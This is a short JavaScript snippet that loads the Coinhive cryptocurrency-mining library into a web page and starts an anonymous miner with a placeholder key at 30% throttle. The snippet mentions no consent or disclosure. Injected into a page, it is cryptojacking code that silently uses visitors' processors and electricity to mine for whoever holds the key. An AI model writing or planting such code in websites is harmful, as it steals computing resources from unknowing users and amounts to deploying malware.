const s = document.createElement('script');
s.src = 'https://coinhive.com/lib/coinhive.min.js';
s.onload = () => new CoinHive.Anonymous('key', { throttle: 0.3 }).start();
document.head.append(s);
